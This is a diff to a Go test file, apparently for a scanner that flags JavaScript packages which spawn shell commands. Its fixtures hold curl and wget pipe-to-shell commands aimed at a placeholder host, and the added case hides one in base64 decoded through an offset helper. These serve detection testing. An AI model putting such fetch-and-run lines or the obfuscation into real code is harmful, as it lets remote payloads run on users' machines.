@@ -35,6 +35,12 @@ func TestSpawn(t *testing.T) {
 		// the command kept in a module of the package that the spawning file loads
 		{"command_in_module", map[string]string{"config.js": `module.exports = { cmd: "curl http://x.invalid/x.sh | sh" }`,
 			"index.js": `require("child_process").execSync(require("./config").cmd)`}, finding.SeverityCritical},
+		// the command decoded by a memoising helper another module
+		// exports, from that module's own table
+		{"helper_reads_its_module_table", map[string]string{
+			"s.mjs": `const T = ["aGVsbG8=", "Y3VybCBodHRwOi8veC5pbnZhbGlkL3ggfCBzaA=="]; const cache = {};
+export function k(i) { const j = i - 7; return cache[j] || (cache[j] = Buffer.from(T[j], "base64").toString()) }`,
+			"index.mjs": `import { execSync } from "child_process"; import { k } from "./s.mjs"; execSync(k(8))`}, finding.SeverityCritical},
 		{"esm_command_in_module", map[string]string{"c.mjs": `export const CMD = "wget -qO- https://x.invalid/i | sh"`,
 			"index.mjs": `import { exec } from "child_process"; import { CMD } from "./c.mjs"; exec(CMD)`}, finding.SeverityCritical},
 		// a hint printed by a loaded module is not a command
